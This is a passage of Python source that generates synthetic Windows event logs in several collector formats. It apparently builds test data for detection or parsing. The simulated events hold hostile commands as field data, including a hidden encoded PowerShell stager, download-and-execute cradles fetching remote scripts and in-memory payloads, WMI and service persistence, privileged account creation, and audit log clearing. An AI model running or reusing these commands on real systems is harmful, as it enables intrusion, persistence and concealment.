sec(4698, subject() + [('TaskName', '\\OneDriveSync'), ('TaskContent', TASK_XML)] + TASK_CLIENT,
    12804, 'Other Object Access Events', 'A scheduled task was created.', version=1)
sec(4699, subject() + [('TaskName', '\\OneDriveSync'), ('TaskContent', '')] + TASK_CLIENT,
    12804, 'Other Object Access Events', 'A scheduled task was deleted.', version=1)
sec(4702, subject() + [('TaskName', '\\OneDriveSync'), ('TaskContentNew', TASK_XML)] + TASK_CLIENT,
    12804, 'Other Object Access Events', 'A scheduled task was updated.', version=1)
sec(4719, SYSTEM_SUBJECT + [
    ('CategoryId', '%%8274'), ('SubcategoryId', '%%12544'),
    ('SubcategoryGuid', '{0CCE9215-69AE-11D9-BED3-505054503030}'), ('AuditPolicyChanges', '%%8448, %%8450')],
    13568, 'Audit Policy Change', 'System audit policy was changed.')
sec(4720, [('TargetUserName', 'helpdesk2'), ('TargetDomainName', DOMAIN), ('TargetSid', DOMAIN_SID + '-1190')]
    + subject(ADMIN_SID, 'Administrator', DOMAIN, '0x3e1c55a') + [
    ('PrivilegeList', '-'), ('SamAccountName', 'helpdesk2'), ('DisplayName', '%%1793'),
    ('UserPrincipalName', '-'), ('HomeDirectory', '%%1793'), ('HomePath', '%%1793'), ('ScriptPath', '%%1793'),
    ('ProfilePath', '%%1793'), ('UserWorkstations', '%%1793'), ('PasswordLastSet', '%%1794'),
    ('AccountExpires', '%%1794'), ('PrimaryGroupId', '513'), ('AllowedToDelegateTo', '-'), ('OldUacValue', '0x0'),
    ('NewUacValue', '0x15'), ('UserAccountControl', '\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084'),
    ('UserParameters', '%%1793'), ('SidHistory', '-'), ('LogonHours', '%%1797')],
    13824, 'User Account Management', 'A user account was created.', computer=DC)
_target_user = [('TargetUserName', 'helpdesk2'), ('TargetDomainName', DOMAIN), ('TargetSid', DOMAIN_SID + '-1190')]
sec(4722, _target_user + subject(ADMIN_SID, 'Administrator', DOMAIN, '0x3e1c55a'),
    13824, 'User Account Management', 'A user account was enabled.', computer=DC)
sec(4724, _target_user + subject(ADMIN_SID, 'Administrator', DOMAIN, '0x3e1c55a'),
    13824, 'User Account Management', "An attempt was made to reset an account's password.", computer=DC)
for _eid, _group, _rid, _scope in ((4728, 'Domain Admins', '512', 'global'),
                                   (4732, 'Administrators', None, 'local'),
                                   (4756, 'Enterprise Admins', '519', 'universal')):
    sec(_eid, [('MemberName', 'CN=helpdesk2,OU=IT,DC=corp,DC=example,DC=org'), ('MemberSid', DOMAIN_SID + '-1190'),
               ('TargetUserName', _group), ('TargetDomainName', 'Builtin' if _rid is None else DOMAIN),
               ('TargetSid', 'S-1-5-32-544' if _rid is None else DOMAIN_SID + '-' + _rid)]
        + subject(ADMIN_SID, 'Administrator', DOMAIN, '0x3e1c55a') + [('PrivilegeList', '-')],
        13826, 'Security Group Management',
        f'A member was added to a security-enabled {_scope} group.', computer=DC)
sec(4768, [('TargetUserName', 'jdoe'), ('TargetDomainName', 'CORP.EXAMPLE.ORG'), ('TargetSid', JDOE_SID),
           ('ServiceName', 'krbtgt'), ('ServiceSid', DOMAIN_SID + '-502'), ('TicketOptions', '0x40810010'),
           ('Status', '0x0'), ('TicketEncryptionType', '0x12'), ('PreAuthType', '2'),
           ('IpAddress', '::ffff:192.0.2.37'), ('IpPort', '49812'), ('CertIssuerName', ''),
           ('CertSerialNumber', ''), ('CertThumbprint', '')],
    14339, 'Kerberos Authentication Service', 'A Kerberos authentication ticket (TGT) was requested.', computer=DC)
sec(4769, [('TargetUserName', 'jdoe@CORP.EXAMPLE.ORG'), ('TargetDomainName', 'CORP.EXAMPLE.ORG'),
           ('ServiceName', 'MSSQLSvc'), ('ServiceSid', DOMAIN_SID + '-1150'), ('TicketOptions', '0x40810000'),
           ('TicketEncryptionType', '0x17'), ('IpAddress', '::ffff:192.0.2.37'), ('IpPort', '49815'),
           ('Status', '0x0'), ('LogonGuid', '{5b0f7f1c-7c55-8a0e-2b3e-6a3a1f0c9d21}'), ('TransmittedServices', '-')],
    14337, 'Kerberos Service Ticket Operations', 'A Kerberos service ticket was requested.', computer=DC)
sec(4771, [('TargetUserName', 'svc_backup'), ('TargetSid', BACKUP_SID), ('ServiceName', 'krbtgt/CORP.EXAMPLE.ORG'),
           ('TicketOptions', '0x40810010'), ('Status', '0x18'), ('PreAuthType', '2'),
           ('IpAddress', '::ffff:198.51.100.77'), ('IpPort', '51344'), ('CertIssuerName', ''),
           ('CertSerialNumber', ''), ('CertThumbprint', '')],
    14339, 'Kerberos Authentication Service', 'Kerberos pre-authentication failed.', failure=True, computer=DC)
sec(4776, [('PackageName', 'MICROSOFT_AUTHENTICATION_PACKAGE_V1_0'), ('TargetUserName', 'svc_backup'),
           ('Workstation', 'OPS-JUMP01'), ('Status', '0x0')],
    14336, 'Credential Validation', 'The computer attempted to validate the credentials for an account.', computer=DC)
sec(5140, subject(BACKUP_SID, 'svc_backup', DOMAIN, '0x2f3a11c') + [
    ('ObjectType', 'File'), ('IpAddress', '192.0.2.51'), ('IpPort', '50913'), ('ShareName', '\\\\*\\ADMIN$'),
    ('ShareLocalPath', '\\??\\C:\\Windows'), ('AccessMask', '0x1'), ('AccessList', '%%4416\r\n\t\t\t\t')],
    12808, 'File Share', 'A network share object was accessed.', version=1, computer=FS)
sec(5145, subject(BACKUP_SID, 'svc_backup', DOMAIN, '0x2f3a11c') + [
    ('ObjectType', 'File'), ('IpAddress', '192.0.2.51'), ('IpPort', '50913'), ('ShareName', '\\\\*\\ADMIN$'),
    ('ShareLocalPath', '\\??\\C:\\Windows'), ('RelativeTargetName', 'PSEXESVC.exe'), ('AccessMask', '0x2'),
    ('AccessList', '%%4417\r\n\t\t\t\t'), ('AccessReason', '%%4417: %%1801 D:(A;;FA;;;BA)\r\n\t\t\t\t')],
    12811, 'Detailed File Share', 'A network share object was checked to see whether client can be granted desired access.',
    computer=FS)
spec('security', 1102, EVENTLOG + ('Security',), version=0, task=104, task_name='Log clear',
     keywords=0x4020000000000000, pid=1084, tid=7336, computer=DC,
     message='The audit log was cleared.\r\nSubject:\r\n\tSecurity ID:\tCORP\\Administrator\r\n'
             '\tAccount Name:\tAdministrator\r\n\tDomain Name:\tCORP\r\n\tLogon ID:\t0x3E1C55A',
     userdata=('LogFileCleared', 'http://manifests.microsoft.com/win/2004/08/windows/eventlog',
               subject(ADMIN_SID, 'Administrator', DOMAIN, '0x3e1c55a')))

# ------------------------------------------------------------------------------------------------------- System
spec('system', 7045, SCM, [('ServiceName', 'UpdaterSvc'), ('ImagePath', '%COMSPEC% /b /c start /b /min ' + DROPPER),
                           ('ServiceType', 'user mode service'), ('StartType', 'demand start'),
                           ('AccountName', 'LocalSystem')],
     qualifiers=16384, keywords=KW_SCM, pid=724, tid=7984, sid=ADMIN_SID, lost=('AccountName',),
     message='A service was installed in the system.\r\n\r\nService Name:  UpdaterSvc\r\nService File Name:  '
             '%COMSPEC% /b /c start /b /min ' + DROPPER + '\r\nService Type:  user mode service\r\n'
             'Service Start Type:  demand start\r\nService Account:  LocalSystem')
spec('system', 7036, SCM, [('param1', 'Windows Update'), ('param2', 'running')], qualifiers=16384,
     keywords=KW_SCM, pid=724, tid=1212, binary='770075006100750073006500720076002F0034000000',
     message='The Windows Update service entered the running state.')
spec('system', 104, EVENTLOG + ('System',), task=104, task_name='Log clear', keywords=KW_SYSMON, pid=1084,
     tid=7336, sid=ADMIN_SID, message='The Windows PowerShell log file was cleared.',
     userdata=('LogFileCleared', 'http://manifests.microsoft.com/win/2004/08/windows/eventlog',
               [('SubjectUserName', 'Administrator'), ('SubjectDomainName', DOMAIN),
                ('Channel', 'Windows PowerShell'), ('BackupPath', '')]))

# --------------------------------------------------------------------------------------------------- PowerShell
HOST_ID = 'a3b7c1d2-5e6f-4a8b-9c0d-1e2f3a4b5c6d'
RUNSPACE = '4f8a2b1c-3d4e-4f5a-8b6c-7d8e9f0a1b2c'
HOST_APP = f'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -enc {STAGER}'
ENGINE = ('\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\tSequenceNumber=13\r\n\r\n'
          '\tHostName=ConsoleHost\r\n\tHostVersion=5.1.19041.3996\r\n\tHostId=' + HOST_ID + '\r\n'
          '\tHostApplication=' + HOST_APP + '\r\n\tEngineVersion=5.1.19041.3996\r\n\tRunspaceId=' + RUNSPACE + '\r\n'
          '\tPipelineId=\r\n\tCommandName=\r\n\tCommandType=\r\n\tScriptName=\r\n\tCommandPath=\r\n\tCommandLine=')
spec('powershell', 400, PS_CLASSIC, unnamed=['Available', 'None', ENGINE], qualifiers=0, task=4,
     task_name='Engine Lifecycle', keywords=KW_CLASSIC, pid=0, tid=0,
     message='Engine state is changed from None to Available. \r\n\r\nDetails: \r\n' + ENGINE)
PIPE_CMD = "IEX (New-Object Net.WebClient).DownloadString('https://198.51.100.23/a.ps1')"
DETAILS = ('\tDetailSequence=1\r\n\tDetailTotal=1\r\n\r\n\tSequenceNumber=15\r\n\r\n\tUserId=CORP\\jdoe\r\n'
           '\tHostName=ConsoleHost\r\n\tHostVersion=5.1.19041.3996\r\n\tHostId=' + HOST_ID + '\r\n'
           '\tHostApplication=' + HOST_APP + '\r\n\tEngineVersion=5.1.19041.3996\r\n\tRunspaceId=' + RUNSPACE + '\r\n'
           '\tPipelineId=1\r\n\tScriptName=\r\n\tCommandLine=' + PIPE_CMD)
INVOCATION = ('CommandInvocation(New-Object): "New-Object"\r\nParameterBinding(New-Object): name="TypeName"; '
              'value="Net.WebClient"\r\n')
spec('powershell', 800, PS_CLASSIC, unnamed=[PIPE_CMD, DETAILS, INVOCATION], qualifiers=0, task=8,
     task_name='Pipeline Execution Details', keywords=KW_CLASSIC, pid=0, tid=0,
     message='Pipeline execution details for command line: ' + PIPE_CMD + '. \r\n\r\nContext Information: \r\n'
             + DETAILS + '\r\n\r\nDetails: \r\n' + INVOCATION)
CONTEXT = ('        Severity = Informational\r\n        Host Name = ConsoleHost\r\n'
           '        Host Version = 5.1.19041.3996\r\n        Host ID = ' + HOST_ID + '\r\n'
           '        Host Application = ' + HOST_APP + '\r\n        Engine Version = 5.1.19041.3996\r\n'
           '        Runspace ID = ' + RUNSPACE + '\r\n        Pipeline ID = 1\r\n        Command Name = New-Object\r\n'
           '        Command Type = Cmdlet\r\n        Script Name = \r\n        Command Path = \r\n'
           '        Sequence Number = 16\r\n        User = CORP\\jdoe\r\n        Connected User = \r\n'
           '        Shell ID = Microsoft.PowerShell\r\n')
spec('powershell', 4103, PS_OPERATIONAL, [('ContextInfo', CONTEXT), ('UserData', ''), ('Payload', INVOCATION)],
     version=1, task=106, task_name='Executing Pipeline', opcode=20, keywords=0, pid=6120, tid=4132, sid=JDOE_SID,
     activity='{282F4843-0B7B-0001-8C25-8C8DEB82D601}',
     message='CommandInvocation(New-Object): "New-Object"\r\nParameterBinding(New-Object): name="TypeName"; '
             'value="Net.WebClient"\r\n\r\n\r\nContext:\r\n' + CONTEXT + '\r\n\r\nUser Data:\r\n')
SCRIPT = ("$wc = New-Object Net.WebClient\r\n$wc.Headers.Add('User-Agent', 'Mozilla/5.0')\r\n"
          "$bytes = $wc.DownloadData('https://198.51.100.23/stage2.bin')\r\n"
          "[System.Reflection.Assembly]::Load($bytes).EntryPoint.Invoke($null, @(,[string[]]@()))")
SCRIPT_ID = 'c9e7a0d5-1f3b-4e6a-9d2c-8b7a6f5e4d3c'
spec('powershell', 4104, PS_OPERATIONAL, [('MessageNumber', '1'), ('MessageTotal', '1'), ('ScriptBlockText', SCRIPT),
                                          ('ScriptBlockId', SCRIPT_ID),
                                          ('Path', 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\a.ps1')],
     version=1, level=3, task=2, task_name='Execute a Remote Command', opcode=15, keywords=0, pid=6120, tid=4132,
     sid=JDOE_SID, activity='{282F4843-0B7B-0000-771F-8E8DEB82D601}',
     message='Creating Scriptblock text (1 of 1):\r\n' + SCRIPT + '\r\n\r\nScriptBlock ID: ' + SCRIPT_ID
             + '\r\nPath: C:\\Users\\jdoe\\AppData\\Local\\Temp\\a.ps1')

# ------------------------------------------------------------------------------------------------- WMI-Activity
WMI_NS = 'http://manifests.microsoft.com/win/2006/windows/WMI'
CONSUMER_MOF = ('Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, '
                '199, 75, 0, 216, 124, 11, 90, 200, 148, 84, 206, 1, 83, 4, 0, 0};\n\tEventNamespace = "root\\\\cimv2";\n'
                '\tName = "OneDriveSync";\n\tQuery = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE '
                'TargetInstance ISA \'Win32_PerfFormattedData_PerfOS_System\'";\n\tQueryLanguage = "WQL";\n};\n'
                'Perm. Consumer: \ninstance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = "'
                + DROPPER.replace('\\', '\\\\') + ' /background";\n\tCreatorSID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, '
                '199, 75, 0, 216, 124, 11, 90, 200, 148, 84, 206, 1, 83, 4, 0, 0};\n\tName = "OneDriveSync";\n};\n')
spec('wmi', 5857, WMI, level=0, keywords=KW_WMI, pid=4864, tid=1416, sid='S-1-5-20',
     activity='{1CB713B3-AB00-0001-51C6-D31C00ABD501}',
     message='CIMWin32 provider started with result code 0x0. HostProcess = wmiprvse.exe; ProcessID = 4864; '
             'ProviderPath = %systemroot%\\system32\\wbem\\cimwin32.dll',
     userdata=('Operation_StartedOperational', WMI_NS,
               [('ProviderName', 'CIMWin32'), ('Code', '0x0'), ('HostProcess', 'wmiprvse.exe'),
                ('ProcessID', '4864'), ('ProviderPath', '%systemroot%\\system32\\wbem\\cimwin32.dll')]))
_op = 'Start IWbemServices::ExecQuery - root\\cimv2 : SELECT * FROM Win32_ShadowCopy'
spec('wmi', 5858, WMI, level=2, keywords=KW_WMI, pid=1780, tid=2204, sid=JDOE_SID,
     activity='{1CB713B3-AB00-0002-51C6-D31C00ABD501}',
     message='Id = {1CB713B3-AB00-0002-51C6-D31C00ABD501}; ClientMachine = FIN-WS07; User = CORP\\jdoe; '
             'ClientProcessId = 7012; Component = Unknown; Operation = ' + _op + '; ResultCode = 0x80041032; '
             'PossibleCause = Unknown',
     userdata=('Operation_ClientFailure', WMI_NS,
               [('Id', '{1CB713B3-AB00-0002-51C6-D31C00ABD501}'), ('ClientMachine', 'FIN-WS07'), ('User', USER),
                ('ClientProcessId', '7012'), ('Component', 'Unknown'), ('Operation', _op),
                ('ResultCode', '0x80041032'), ('PossibleCause', 'Unknown')]))
_query = 'SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \'Win32_PerfFormattedData_PerfOS_System\''
spec('wmi', 5859, WMI, level=0, keywords=KW_WMI, pid=1780, tid=2204, sid=SYSTEM_SID,
     message='Namespace = //./root/CIMV2; NotificationQuery = ' + _query + '; OwnerName = CORP\\jdoe; '
             'HostProcessID = 1780;  Provider= WMI Kernel Trace Event Provider, queryID = 0; PossibleCause = Permanent',
     userdata=('Operation_EssStarted', WMI_NS,
               [('NamespaceName', '//./root/CIMV2'), ('Query', _query), ('User', USER), ('processid', '1780'),
                ('Provider', 'WMI Kernel Trace Event Provider'), ('queryid', '0'), ('PossibleCause', 'Permanent')]))
_tquery = 'SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = \'lsass.exe\''
spec('wmi', 5860, WMI, level=0, keywords=KW_WMI, pid=1780, tid=2204, sid=JDOE_SID,
     message='Namespace = ROOT\\CIMV2; NotificationQuery = ' + _tquery + '; UserName = CORP\\jdoe; '
             'ClientProcessID = 6120, ClientMachine = FIN-WS07; PossibleCause = Temporary',
     userdata=('Operation_TemporaryEssStarted', WMI_NS,
               [('NamespaceName', 'ROOT\\CIMV2'), ('Query', _tquery), ('User', USER), ('processid', '6120'),
                ('MachineName', 'FIN-WS07'), ('PossibleCause', 'Temporary')]))
spec('wmi', 5861, WMI, level=0, keywords=KW_WMI, pid=1780, tid=2204, sid=SYSTEM_SID,
     message='Namespace = //./root/subscription; Eventfilter = OneDriveSync (refer to its activate eventid:5859); '
             'Consumer = CommandLineEventConsumer="OneDriveSync"; PossibleCause = ' + CONSUMER_MOF,
     userdata=('Operation_ESStoConsumerBinding', WMI_NS,
               [('Namespace', '//./root/subscription'), ('ESS', 'OneDriveSync'),
                ('CONSUMER', 'CommandLineEventConsumer="OneDriveSync"'), ('PossibleCause', CONSUMER_MOF)]))

# ------------------------------------------------------------------------------------------------ TaskScheduler
INSTANCE = '{0e1f2a3b-4c5d-4e6f-8a9b-0c1d2e3f4a5b}'
spec('taskscheduler', 106, TASKS, [('TaskName', '\\OneDriveSync'), ('UserContext', USER)], task=106,
     task_name='Task registered', keywords=KW_SYSMON, pid=1360, tid=3656, sid=SYSTEM_SID,
     message='User "CORP\\jdoe"  registered Task Scheduler task "\\OneDriveSync"')
spec('taskscheduler', 140, TASKS, [('TaskName', '\\OneDriveSync'), ('UserName', USER)], task=140,
     task_name='Task registration updated', keywords=KW_SYSMON, pid=1360, tid=3656, sid=SYSTEM_SID,
     message='User "CORP\\jdoe"  updated Task Scheduler task "\\OneDriveSync"')
spec('taskscheduler', 141, TASKS, [('TaskName', '\\OneDriveSync'), ('UserName', USER)], task=141,
     task_name='Task registration deleted', keywords=KW_SYSMON, pid=1360, tid=3656, sid=SYSTEM_SID,
     message='User "CORP\\jdoe"  deleted Task Scheduler task "\\OneDriveSync"')
spec('taskscheduler', 200, TASKS, [('TaskName', '\\OneDriveSync'), ('ActionName', DROPPER),
                                   ('TaskInstanceId', INSTANCE), ('EnginePID', '7420')],
     version=1, task=200, task_name='Action started', opcode=1, keywords=KW_SYSMON, pid=1360, tid=2210,
     sid=SYSTEM_SID, activity=INSTANCE.upper(),
     message=f'Task Scheduler launched action "{DROPPER}" in instance "{INSTANCE}" of task "\\OneDriveSync".')
spec('taskscheduler', 201, TASKS, [('TaskName', '\\OneDriveSync'), ('TaskInstanceId', INSTANCE),
                                   ('ActionName', DROPPER), ('ResultCode', '2147942402'), ('EnginePID', '7420')],
     version=2, task=201, task_name='Action completed', opcode=2, keywords=KW_SYSMON, pid=1360, tid=2210,
     sid=SYSTEM_SID, activity=INSTANCE.upper(),
     message=f'Task Scheduler successfully completed task "\\OneDriveSync" , instance "{INSTANCE}" , action '
             f'"{DROPPER}" with return code 2147942402.')

# --------------------------------------------------------------------------------------------------------- EMET
IE = 'C:\\Program Files (x86)\\Internet Explorer\\iexplore.exe'
EMET_1 = ('EMET version 5.52.6268.33232\nEMET detected EAF mitigation in iexplore.exe\r\n\r\n'
          'EAF check failed:\n  Application \t: ' + IE + '\n  User Name \t: CORP\\jdoe\n  Session ID \t: 1\n'
          '  PID \t\t: 0x1A2C (6700)\n  TID \t\t: 0x1B40 (6976)\n  Module \t: jscript9.dll\n'
          '  Address \t: 0x6F3C2A10\n')
EMET_2 = ('EMET version 5.52.6268.33232\nEMET detected HeapSpray mitigation and will close the application: '
          'iexplore.exe\r\n\r\nHeapSpray check failed:\n  Application \t: ' + IE + '\n  User Name \t: CORP\\jdoe\n'
          '  Session ID \t: 1\n  PID \t\t: 0xBA8 (2984)\n  TID \t\t: 0x9E8 (2536)\n  Module \t: mshtml.dll\n'
          '  Address \t: 0x6FBA7512\n')
EMET_50 = ('EMET version 5.52.6268.33232\nEMET Service status is: Running\n\n'
           'EMET configuration for System mitigations (Registry) is:\n<ConfigSysmitREG>\nDEP: Application Opt In\n'
           'SEHOP: Application Opt In\nASLR: Application Opt In\nPinning: Enabled\n</ConfigSysmitREG>')
for _eid, _level, _text in ((1, 3, EMET_1), (2, 2, EMET_2), (50, 4, EMET_50)):
    spec('emet', _eid, EMET, unnamed=[_text], qualifiers=0, level=_level, keywords=KW_CLASSIC, pid=0, tid=0,
         message=_text)


# ---------------------------------------------------------------------------------------------------- rendering
def finish(s):
    """Fills the times, Sysmon's UtcTime and message, and the event data every format shares."""
    s['utc'] = utc_ms(s['time'])
    if s['source'] == 'sysmon':
        s['data'] = [(k, s['utc'] if v is None else v) for k, v in s['data']]
        s['message'] = s['message'] + '\r\n' + '\r\n'.join(f'{k}: {v}' for k, v in s['data'])
    elif s['source'] == 'security' and s['data']:
        s['message'] = s['message'] + '\r\n\r\n' + '\r\n'.join(f'\t{k}:\t\t{v}' for k, v in s['data'])
    return s


def signed64(v):
    return v - (1 << 64) if v >= (1 << 63) else v


def pairs(s):
    return s['userdata'][2] if s['userdata'] else s['data']


def nxlog(s):
    t = s['time']
    sev, sev_value = NXLOG_SEVERITY[s['level']]
    kw = s['keywords']
    etype = ('AUDIT_FAILURE' if kw == KW_AUDIT_FAILURE else 'AUDIT_SUCCESS') if kw & 0x0030000000000000 \
        else NXLOG_EVENTTYPE[s['level']]
    r = {'EventTime': t.strftime('%Y-%m-%d %H:%M:%S'), 'Hostname': s['computer'], 'Keywords': signed64(kw),
         'EventType': etype, 'SeverityValue': sev_value, 'Severity': sev, 'EventID': s['id'],
         'SourceName': s['provider']}
    if s['guid']:
        r['ProviderGuid'] = s['guid']
    r.update({'Version': s['version'], 'Task': s['task'], 'OpcodeValue': s['opcode'], 'RecordNumber': s['record']})
    if s['activity']:
        r['ActivityID'] = s['activity']
    r.update({'ExecutionProcessID': s['pid'], 'ThreadID': s['tid'], 'Channel': s['channel']})
    if s['sid']:
        name, domain, ntype, _ = ACCOUNTS[s['sid']]
        r.update({'Domain': domain, 'AccountName': name, 'UserID': s['sid'], 'AccountType': ntype})
    r['Category'] = s['task_name'] or 'None'
    r['Opcode'] = OPCODES.get(s['opcode'], 'Info')
    if not s['userdata']:  # NXLog flattens EventData only; UserData and unnamed Data stay in Message
        for k, v in s['data']:
            if v != '' and k not in s['lost'] and k not in r:
                r[k] = v
    r['Message'] = s['message']
    r['EventReceivedTime'] = (t + timedelta(seconds=1)).strftime('%Y-%m-%d %H:%M:%S')
    r['SourceModuleName'] = 'eventlog'
    r['SourceModuleType'] = 'im_msvistalog'
    return json.dumps(r, ensure_ascii=False, separators=(',', ':')) + '\n'


def millis(t):
    return t.strftime('%Y-%m-%dT%H:%M:%S.') + '%03dZ' % (t.microsecond // 1000)


def winlogbeat(s):
    t = s['time']
    w = {'api': 'wineventlog', 'channel': s['channel'], 'computer_name': s['computer']}
    if s['userdata']:
        ud = {k: v for k, v in s['userdata'][2] if v != ''}
        ud['xml_name'] = s['userdata'][0]
        w['user_data'] = ud
    elif s['unnamed']:
        w['event_data'] = {f'param{i + 1}': v for i, v in enumerate(s['unnamed']) if v != ''}
    else:
        w['event_data'] = {k: v for k, v in s['data'] if v != ''}
    if s['binary'] and 'event_data' in w:
        w['event_data']['Binary'] = s['binary']
    w['event_id'] = str(s['id'])
    names = KEYWORD_NAMES.get(s['keywords'])
    if names:
        w['keywords'] = names
    if s['task_name'] or s['guid'] is None:
        w['task'] = s['task_name'] or 'None'
    if s['guid']:
        w['opcode'] = OPCODES.get(s['opcode'], 'Info')
    w['process'] = {'pid': s['pid'], 'thread': {'id': s['tid']}}
    w['provider_name'] = s['provider']
    if s['guid']:
        w['provider_guid'] = s['guid']
    w['record_id'] = s['record']
    if s['activity']:
        w['activity_id'] = s['activity']
    if s['sid']:
        name, domain, _, wtype = ACCOUNTS[s['sid']]
        w['user'] = {'identifier': s['sid'], 'name': name, 'domain': domain, 'type': wtype}
    if s['guid'] or s['version']:
        w['version'] = s['version']
    event = {'code': str(s['id']), 'kind': 'event', 'provider': s['provider'],
             'action': s['task_name'] or 'None', 'created': millis(t + timedelta(seconds=1, milliseconds=217))}
    if s['keywords'] in (KW_AUDIT_SUCCESS, 0x4020000000000000):
        event['outcome'] = 'success'
    elif s['keywords'] == KW_AUDIT_FAILURE:
        event['outcome'] = 'failure'
    host = s['computer'].split('.')[0]
    r = {'@timestamp': millis(t),
         'agent': {'type': 'winlogbeat', 'version': '8.13.4', 'hostname': host, 'name': host,
                   'id': guid('agent-' + host, 'b7a0e4a5')[1:-1],
                   'ephemeral_id': guid('ephemeral-' + host, '0e6c5a1f')[1:-1]},
         'ecs': {'version': '8.0.0'},
         'host': {'name': s['computer'].lower(), 'hostname': host,
                  'os': {'family': 'windows', 'platform': 'windows', 'type': 'windows'}},
         'event': event, 'log': {'level': LEVELS[s['level']]},
         'message': s['message'].replace('\r\n', '\n'), 'winlog': w}
    return json.dumps(r, ensure_ascii=False, separators=(',', ':')) + '\n'


def esc(text):
    return (text.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;').replace('"', '&quot;')
            .replace("'", '&apos;').replace('\r', '&#13;'))


def xml(s):
    t = s['time']
    p = f"<Provider Name='{s['provider']}'"
    if s['guid']:
        p += f" Guid='{s['guid'].lower()}'"
    if s['qualifiers'] is not None and s['guid']:
        p += f" EventSourceName='{s['provider']}'"
    x = ["<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>", p + '/>']
    q = '' if s['qualifiers'] is None else f" Qualifiers='{s['qualifiers']}'"
    x.append(f"<EventID{q}>{s['id']}</EventID>")
    classic = s['guid'] is None
    if not classic:
        x.append(f"<Version>{s['version']}</Version>")
    x.append(f"<Level>{s['level']}</Level><Task>{s['task']}</Task>")
    if not classic:
        x.append(f"<Opcode>{s['opcode']}</Opcode>")
    x.append('<Keywords>0x%x</Keywords>' % s['keywords'])
    x.append("<TimeCreated SystemTime='%s.%06d%dZ'/>" % (t.strftime('%Y-%m-%dT%H:%M:%S'), t.microsecond, s['ticks']))
    x.append(f"<EventRecordID>{s['record']}</EventRecordID>")
    x.append(f"<Correlation ActivityID='{s['activity']}'/>" if s['activity'] else '<Correlation/>')
    x.append(f"<Execution ProcessID='{s['pid']}' ThreadID='{s['tid']}'/>")
    x.append(f"<Channel>{s['channel']}</Channel><Computer>{s['computer']}</Computer>")
    x.append(f"<Security UserID='{s['sid']}'/>" if s['sid'] else '<Security/>')
    x.append('</System>')
    if s['userdata']:
        element, ns, fields = s['userdata']
        x.append(f"<UserData><{element} xmlns='{ns}'>")
        x.extend(f'<{k}>{esc(v)}</{k}>' for k, v in fields)
        x.append(f'</{element}></UserData>')
    else:
        x.append('<EventData>')
        if s['unnamed']:
            x.extend(f'<Data>{esc(v)}</Data>' for v in s['unnamed'])
        else:
            x.extend(f"<Data Name='{k}'>{esc(v)}</Data>" for k, v in s['data'])
        if s['binary']:
            x.append(f"<Binary>{s['binary']}</Binary>")
        x.append('</EventData>')
    x.append('</Event>')
    return ''.join(x) + '\n'


def unnamed_params(s):
    return [(f'param{i + 1}', v) for i, v in enumerate(s['unnamed'])]


def flat(s):
    r = {'EventID': s['id'], 'Channel': s['channel'],
         'Hostname': s['computer'].split('.')[0] if s['n'] % 2 == 0 else s['computer'],
         'SourceName': s['provider'], 'Task': str(s['task']), 'Message': s['message'],
         'TimeCreated': utc_ms(s['time'])}
    fields = s['userdata'][2] if s['userdata'] else unnamed_params(s) if s['unnamed'] else s['data']
    for k, v in fields:
        if v != '' and k not in r:
            r[k] = v
    if s['binary']:
        r['Binary'] = s['binary']
    return json.dumps(r, ensure_ascii=False, separators=(',', ':')) + '\n'


WLB6_LEVELS = {0: 'Information', 1: 'Critical', 2: 'Error', 3: 'Warning', 4: 'Information', 5: 'Verbose'}


def winlogbeat6(s):
    t = s['time']
    r = {'@timestamp': millis(t),
         '@metadata': {'beat': 'winlogbeat', 'type': 'doc', 'version': '6.5.4', 'topic': 'winlogbeat'},
         'beat': {'name': 'WEC01', 'hostname': 'WEC01', 'version': '6.5.4'}, 'host': {'name': 'WEC01'},
         'type': 'wineventlog', 'log_name': s['channel'], 'source_name': s['provider']}
    if s['guid']:
        r['provider_guid'] = s['guid'].lower()
    r.update({'computer_name': s['computer'], 'event_id': s['id'], 'record_number': str(s['record']),
              'level': WLB6_LEVELS[s['level']]})
    names = KEYWORD_NAMES.get(s['keywords'])
    if names:
        r['keywords'] = names
    if s['task_name'] or s['guid'] is None:
        r['task'] = s['task_name'] or 'None'
    if s['guid']:
        r['opcode'] = OPCODES.get(s['opcode'], 'Info')
    if s['guid'] or s['version']:
        r['version'] = s['version']
    r.update({'process_id': s['pid'], 'thread_id': s['tid']})
    if s['activity']:
        r['activity_id'] = s['activity']
    if s['sid']:
        name, domain, _, wtype = ACCOUNTS[s['sid']]
        r['user'] = {'identifier': s['sid'], 'name': name, 'domain': domain, 'type': wtype}
    if s['userdata']:
        ud = dict(s['userdata'][2])
        ud['xml_name'] = s['userdata'][0]
        r['user_data'] = ud
    else:
        r['event_data'] = dict(unnamed_params(s) if s['unnamed'] else s['data'])
        if s['binary']:
            r['event_data']['Binary'] = s['binary']
    r['message'] = s['message'].replace('\r\n', '\n')
    return json.dumps(r, ensure_ascii=False, separators=(',', ':')) + '\n'


# evtx_dump types EventData by the template's in-type: these are UInt16/UInt32/Int32, Boolean or GUID there.
EVTX_NUMBERS = {'sysmon': {'ProcessId', 'ParentProcessId', 'SourceProcessId', 'TargetProcessId', 'SourceThreadId',
                           'NewThreadId', 'TerminalSessionId', 'SourcePort', 'DestinationPort'},
                'security': {'LogonType', 'KeyLength', 'RestrictedSidCount', 'ServiceStartType'},
                'taskscheduler': {'EnginePID', 'ResultCode'},
                'powershell': {'MessageNumber', 'MessageTotal'},
                'wmi': {'ProcessID', 'ClientProcessId', 'processid', 'queryid'}}
EVTX_BOOLEANS = {'sysmon': {'Initiated', 'SourceIsIpv6', 'DestinationIsIpv6'}}
EVTX_GUIDS = {'ProcessGuid', 'ParentProcessGuid', 'LogonGuid', 'SourceProcessGuid', 'TargetProcessGuid',
